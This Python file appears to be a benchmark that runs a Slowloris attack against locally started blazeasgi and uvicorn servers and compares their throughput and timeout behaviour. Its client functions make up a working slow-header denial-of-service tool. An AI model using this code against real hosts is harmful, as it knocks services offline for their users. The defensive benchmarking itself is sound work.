"""Slowloris: many connections trickle a request head that never ends.

    python -m benchmarks.attacks.slowloris [--slow 500] [--attack 20] [--servers blazeasgi uvicorn]

For each server: legit req/s (wrk, 4 keep-alive connections, GET /) without attack;
then ``--slow`` connections each send a request line and one more header byte every
second; while they do, wrk measures legit req/s again; every slow connection is
watched for the server closing it. Reported: legit req/s before/during, how many
slow connections the server closed within the attack window, and seconds from a slow
connection's first byte to its close (median, max). Both servers run with their
defaults (blazeasgi: 10 s request-head timeout; uvicorn has no such timeout).
"""

from __future__ import annotations

import argparse
import asyncio
import statistics
import threading
import time

from .common import SERVERS, header, raise_fd_limit, running, wrk

TRICKLE = b"X-Slow: " + b"a" * 10_000


async def slow_client(port: int, attack: float, closes: list[float]) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        closes.append(-1.0)  # refused at once
        return
    start = time.monotonic()
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
    read = asyncio.ensure_future(reader.read(65536))
    i = 0
    try:
        while time.monotonic() - start < attack:
            await asyncio.wait([read], timeout=1.0)
            if read.done():
                # the server answered (408) or closed: read to the end
                while read.result():
                    read = asyncio.ensure_future(reader.read(65536))
                    await read
                closes.append(time.monotonic() - start)
                return
            writer.write(TRICKLE[i : i + 1])
            i += 1
            await writer.drain()
    except (ConnectionError, OSError):
        closes.append(time.monotonic() - start)
        return
    finally:
        read.cancel()
        writer.close()


async def attack_async(port: int, slow: int, attack: float) -> list[float]:
    closes: list[float] = []
    tasks = []
    for _ in range(slow):
        tasks.append(asyncio.ensure_future(slow_client(port, attack, closes)))
        await asyncio.sleep(0.002)  # 500 connections over 1 s
    await asyncio.gather(*tasks)
    return closes


def measure(server: str, slow: int, attack: float, legit: float) -> dict[str, object]:
    with running(server) as (_proc, port):
        wrk(port, 1)  # warm up
        before = wrk(port, legit)
        result: list[list[float]] = []
        thread = threading.Thread(target=lambda: result.append(asyncio.run(attack_async(port, slow, attack))))
        thread.start()
        time.sleep(2)  # every slow connection is open and trickling
        during = wrk(port, legit)
        thread.join()
    closes = [c for c in result[0] if c >= 0]
    return {
        "server": server,
        "legit_rps_before": before,
        "legit_rps_during": during,
        "slow_closed": len(closes),
        "slow_total": slow,
        "close_median_s": statistics.median(closes) if closes else None,
        "close_max_s": max(closes) if closes else None,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--slow", type=int, default=500, help="slow connections (default 500)")
    parser.add_argument("--attack", type=float, default=20.0, help="attack window, seconds (default 20)")
    parser.add_argument("--legit", type=float, default=8.0, help="each wrk run, seconds (default 8)")
    parser.add_argument("--servers", nargs="+", default=list(SERVERS), choices=SERVERS)
    args = parser.parse_args()
    raise_fd_limit(4 * args.slow + 100)
    header(f"slowloris: {args.slow} slow connections for {args.attack:g} s")
    for server in args.servers:
        r = measure(server, args.slow, args.attack, args.legit)
        closed = f"{r['slow_closed']}/{r['slow_total']} slow connections closed within {args.attack:g} s"
        timing = (
            f"first byte to close: median {r['close_median_s']:.1f} s, max {r['close_max_s']:.1f} s"
            if r["slow_closed"]
            else "none closed"
        )
        rps = f"legit req/s {r['legit_rps_before']:8.0f} before, {r['legit_rps_during']:8.0f} during"
        print(f"{server:10} {rps} | {closed}; {timing}")


if __name__ == "__main__":
    main()
